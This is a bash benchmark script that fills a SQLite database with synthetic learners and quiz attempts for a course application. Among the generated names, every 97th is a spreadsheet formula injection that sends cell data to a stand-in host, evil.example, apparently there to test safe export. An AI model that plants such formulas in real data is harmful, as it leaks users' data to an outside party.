#!/usr/bin/env bash
# Usage: Benchmarks/make-large-db.sh COURSE_BINARY DB_PATH [LEARNERS] [ATTEMPTS]
# Makes a database with LEARNERS learners (default 10,000), each enrolled, and
# ATTEMPTS quiz attempts (default 1,000,000) spread over them, using the schema
# `course` creates (it migrates the file first) and SQL recursive CTEs for speed.
set -euo pipefail
course=$1
db=$2
learners=${3:-10000}
attempts=${4:-1000000}
rm -f "$db" "$db-wal" "$db-shm"
"$course" db migrate --db "$db" >/dev/null
sqlite3 "$db" <<SQL
PRAGMA journal_mode = WAL;
PRAGMA synchronous = OFF;
BEGIN;
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $learners)
INSERT INTO learner (id, handle, name, createdAt)
SELECT i, 'learner-' || i,
       CASE WHEN i % 97 = 0 THEN '=HYPERLINK("http://evil.example?leak="&A1,"x") ' || i
            WHEN i % 31 = 0 THEN 'Zoë "Zed" O''Brien, ' || i
            ELSE 'Learner number ' || i END,
       '2026-01-01T00:00:00.000Z'
FROM n;
INSERT INTO enrolment (learnerId, courseId, enrolledAt)
SELECT id, 'python-weakref', createdAt FROM learner;
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $attempts)
INSERT INTO quizAttempt (id, learnerId, courseId, lessonId, contentVersion, state, seed, startedAt, finishedAt,
                         score, maxScore)
SELECT i, 1 + (i % $learners), 'python-weakref', 'weakref', 'v1',
       CASE WHEN i % 10 = 0 THEN 'in_progress' ELSE 'finished' END,
       i * 7919 % 1000003,
       '2026-02-01T10:00:00.000Z',
       CASE WHEN i % 10 = 0 THEN NULL ELSE '2026-02-01T10:05:00.000Z' END,
       CASE WHEN i % 10 = 0 THEN NULL ELSE (i % 9) * 0.5 END,
       CASE WHEN i % 10 = 0 THEN NULL ELSE 4 END
FROM n;
COMMIT;
PRAGMA wal_checkpoint(TRUNCATE);
SQL
echo "made $db: $(sqlite3 "$db" 'SELECT COUNT(*) FROM learner') learners, $(sqlite3 "$db" 'SELECT COUNT(*) FROM quizAttempt') attempts"
